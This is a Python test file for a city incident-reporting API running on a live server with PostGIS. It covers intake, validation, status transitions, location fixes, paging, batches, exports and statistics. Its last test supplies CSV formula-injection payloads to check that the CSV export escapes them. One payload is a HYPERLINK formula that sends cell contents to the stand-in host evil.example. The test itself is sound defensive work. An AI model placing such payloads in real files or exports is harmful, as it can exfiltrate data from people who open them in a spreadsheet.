"""The incident endpoints over a real uvicorn server on real PostGIS."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator

import httpx
import pytest

from gis.settings import Settings
from tests.conftest import LiveServer
from tests.fixtures import small_street_with_categories

PROBLEM = "application/problem+json"


@pytest.fixture(scope="module")
def http(
    new_database: Callable[[], str], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[httpx.Client]:
    url = new_database()
    small_street_with_categories(url, tmp_path_factory.mktemp("incidents-api"))
    with (
        LiveServer(Settings(database_url=url, incident_batch_max=50)) as live,
        live.client(timeout=30) as client,
    ):
        yield client


def incident(**kw: object) -> dict[str, object]:
    out: dict[str, object] = {
        "category": "garbage",
        "description": "垃圾堆放",
        "source": "hotline",
        "lon": 121.3925,
        "lat": 31.2425,
        "reported_at": "2026-11-23T09:30:00+08:00",
        "reporter": {"name": "陈先生", "phone": "13800000000"},
    }
    out.update(kw)
    return out


def problem(response: httpx.Response, status: int, field: str) -> dict:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith(PROBLEM)
    body = response.json()
    assert body["status"] == status and body["field"] == field
    return body


def test_create_then_retry_answers_the_same_incident(http: httpx.Client) -> None:
    first = http.post("/v1/incidents", json=incident(external_id="12345-1"))
    assert first.status_code == 201, first.text
    feature = first.json()
    props = feature["properties"]
    assert props["owner"]["code"] == "M1" and props["status"] == "assigned"
    assert [s["code"] for s in props["staff"]] == ["P1", "P2"]
    assert feature["geometry"]["coordinates"] == [121.3925, 31.2425]
    again = http.post("/v1/incidents", json=incident(external_id="12345-1"))
    assert again.status_code == 200 and again.json()["id"] == feature["id"]


def test_bad_fields_are_named(http: httpx.Client) -> None:
    problem(http.post("/v1/incidents", json=incident(category="nope")), 422, "category")
    problem(http.post("/v1/incidents", json=incident(source="fax")), 422, "source")
    problem(http.post("/v1/incidents", json=incident(lon=None, lat=None)), 422, "location")
    problem(http.get("/v1/incidents?limit=0"), 422, "limit")
    problem(http.get("/v1/incidents?status=bogus"), 422, "status")
    problem(http.get("/v1/stats?group_by=fortnight"), 422, "group_by")
    problem(http.get("/v1/stats?group_by=week&compare=previous"), 422, "compare")
    problem(http.get("/v1/stats?source=fax"), 422, "source")
    problem(http.get("/v1/incidents/999999"), 404, "id")


def test_transitions_and_timeline(http: httpx.Client) -> None:
    ident = http.post("/v1/incidents", json=incident(category="noise")).json()["id"]
    ok = http.post(
        f"/v1/incidents/{ident}/transitions", json={"to": "in_progress", "actor": "李强"}
    )
    assert ok.status_code == 200 and ok.json()["from"] == "assigned"
    bad = http.post(f"/v1/incidents/{ident}/transitions", json={"to": "closed", "actor": "李强"})
    body = problem(bad, 409, "to")
    assert body["current"] == "in_progress" and "resolved" in body["allowed"]
    timeline = http.get(f"/v1/incidents/{ident}").json()["properties"]["timeline"]
    assert [e["to"] for e in timeline] == ["reported", "assigned", "in_progress"]


def test_review_queue_and_location_fix(http: httpx.Client) -> None:
    body = incident(address="无名路8号", external_id="addr-1")
    del body["lon"], body["lat"]
    created = http.post("/v1/incidents", json=body)
    assert created.status_code == 201
    ident = created.json()["id"]
    assert created.json()["properties"]["location_status"] == "needs_review"
    queue = http.get("/v1/incidents/review").json()
    assert ident in [f["id"] for f in queue["features"]]
    fixed = http.post(
        f"/v1/incidents/{ident}/location", json={"lon": 121.4075, "lat": 31.2575, "actor": "调度"}
    )
    assert fixed.status_code == 200, fixed.text
    assert fixed.json()["to"]["owner_code"] == "M4" and fixed.json()["status"] == "assigned"
    assert ident not in [f["id"] for f in http.get("/v1/incidents/review").json()["features"]]


def test_list_filters_and_paging(http: httpx.Client) -> None:
    for k in range(5):
        http.post("/v1/incidents", json=incident(category="water_leak", lon=121.4075 + k * 1e-4))
    page = http.get("/v1/incidents?category=water_leak&area=G2&limit=2").json()
    assert page["numberMatched"] == 5 and page["numberReturned"] == 2
    seen = [f["id"] for f in page["features"]]
    url = next(link["href"] for link in page["links"] if link["rel"] == "next")
    while url:
        page = http.get(url).json()
        seen += [f["id"] for f in page["features"]]
        url = next((link["href"] for link in page["links"] if link["rel"] == "next"), None)
    assert len(set(seen)) == 5
    assert http.get("/v1/incidents?category=water_leak&area=G1").json()["numberMatched"] == 0
    box = http.get("/v1/incidents?bbox=121.40,31.24,121.41,31.25&category=water_leak").json()
    assert box["numberMatched"] == 5


def test_batch_with_errors_in_order_and_size_limit(http: httpx.Client) -> None:
    items = [incident(external_id="b-1"), incident(category="x"), incident(external_id="b-1")]
    out = http.post("/v1/incidents/batch", json={"incidents": items}).json()
    assert out["count"] == 3 and out["created"] == 1 and out["errors"] == 1
    assert out["results"][1]["error"]["field"] == "category"
    assert out["results"][2]["id"] == out["results"][0]["id"]
    big = http.post("/v1/incidents/batch", json={"incidents": [incident()] * 51})
    problem(big, 413, "incidents")


def test_exports_stream_every_matching_incident(http: httpx.Client) -> None:
    total = http.get("/v1/incidents?limit=1").json()["numberMatched"]
    text = http.get("/v1/incidents/export.csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == total and rows[0]["category"]
    geo = http.get("/v1/incidents/export.geojson?category=water_leak").json()
    assert geo["type"] == "FeatureCollection" and len(geo["features"]) == 5


def test_stats_and_categories(http: httpx.Client) -> None:
    cats = http.get("/v1/incident-categories").json()
    assert {"code": "garbage", "clock": "working"}.items() <= cats[2].items() or any(
        c["code"] == "garbage" and c["clock"] == "working" for c in cats
    )
    out = http.get("/v1/stats?group_by=area&area=S").json()
    assert out["total"]["count"] == sum(g["count"] for g in out["groups"])
    assert out["total"]["count"] > 0


def test_openapi_lists_incident_paths(http: httpx.Client) -> None:
    paths = http.get("/openapi.json").json()["paths"]
    for path in (
        "/v1/incidents",
        "/v1/incidents/batch",
        "/v1/incidents/{incident_id}",
        "/v1/incidents/{incident_id}/transitions",
        "/v1/incidents/{incident_id}/location",
        "/v1/incidents/review",
        "/v1/stats",
    ):
        assert path in paths
    assert "409" in paths["/v1/incidents/{incident_id}/transitions"]["post"]["responses"]


def test_nul_characters_and_huge_ids_are_422_not_500(http: httpx.Client) -> None:
    problem(http.post("/v1/incidents", json=incident(description="a\u0000b")), 422, "description")
    problem(http.get("/v1/incidents/99999999999999999999"), 422, "incident_id")
    ident = http.post("/v1/incidents", json=incident()).json()["id"]
    bad = http.post(
        f"/v1/incidents/{ident}/transitions", json={"to": "in_progress", "actor": "x\u0000"}
    )
    problem(bad, 422, "in_progress.actor")  # the union branch, then the field
    old = http.post("/v1/incidents", json=incident(reported_at="0001-01-01T00:00:00Z"))
    problem(old, 422, "reported_at")


def test_stats_reflect_each_write_at_once(http: httpx.Client) -> None:
    """/v1/stats reads facts the incidents triggers keep (issue 13): the call right after an
    intake, a transition, a relocation and a duplicate link already counts it."""
    query = "/v1/stats?group_by=area&category=facility_damage"

    def total() -> dict:
        return http.get(query).json()["total"]

    before = total()
    a = http.post("/v1/incidents", json=incident(category="facility_damage")).json()["id"]
    b = http.post("/v1/incidents", json=incident(category="facility_damage")).json()["id"]
    taken = total()
    assert taken["count"] == before["count"] + 2 and taken["open"] == before["open"] + 2
    for to in ("in_progress", "resolved"):
        moved = http.post(f"/v1/incidents/{a}/transitions", json={"to": to, "actor": "李强"})
        assert moved.status_code == 200, moved.text
    resolved = total()
    assert resolved["resolved"] == taken["resolved"] + 1 and resolved["open"] == before["open"] + 1
    where = http.get(query).json()["groups"]
    fixed = http.post(
        f"/v1/incidents/{b}/location", json={"lon": 121.4075, "lat": 31.2575, "actor": "调度"}
    )
    assert fixed.status_code == 200, fixed.text
    after_move = {g["key"]: g["count"] for g in http.get(query).json()["groups"]}
    assert after_move.get("M4", 0) == {g["key"]: g["count"] for g in where}.get("M4", 0) + 1
    linked = http.post(f"/v1/incidents/{b}/duplicate", json={"of": a, "actor": "王芳"})
    assert linked.status_code == 200, linked.text
    assert total()["duplicates"] == before["duplicates"] + 1


@pytest.mark.parametrize(
    "description",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_export_csv_escapes_formulas(http: httpx.Client, description: str) -> None:
    """Issue 22 B: a description a spreadsheet would run comes out of export.csv as text."""
    made = http.post("/v1/incidents", json=incident(description=description))
    assert made.status_code == 201, made.text
    number = made.json()["id"]
    text = http.get("/v1/incidents/export.csv").content.decode("utf-8-sig")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}
    cell = rows[str(number)]["description"]
    assert cell == "'" + description.strip()  # intake trims a leading tab or CR
    assert rows[str(number)]["lon"] == "121.3925"  # numbers untouched
